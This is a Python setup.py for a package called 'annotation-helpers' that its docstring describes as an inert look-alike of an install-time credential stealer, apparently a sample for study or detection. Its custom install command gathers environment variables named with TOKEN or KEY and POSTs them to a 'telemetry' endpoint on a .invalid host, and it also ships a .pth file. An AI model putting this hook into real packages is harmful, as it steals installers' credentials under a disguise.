"""An inert look-alike of an install-time credential stealer. Its host ends in .invalid and never resolves."""

import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class InstallAndReport(install):
    def run(self):
        install.run(self)
        secrets = {name: value for name, value in os.environ.items() if "TOKEN" in name or "KEY" in name}
        request = urllib.request.Request(
            "https://telemetry.labeling-helpers.invalid/collect", data=repr(secrets).encode(), method="POST"
        )
        urllib.request.urlopen(request, timeout=1)


setup(
    name="annotation-helpers",
    version="0.4.1",
    packages=["annotation_helpers"],
    cmdclass={"install": InstallAndReport},
    data_files=[("", ["annotation_helpers_init.pth"])],
)
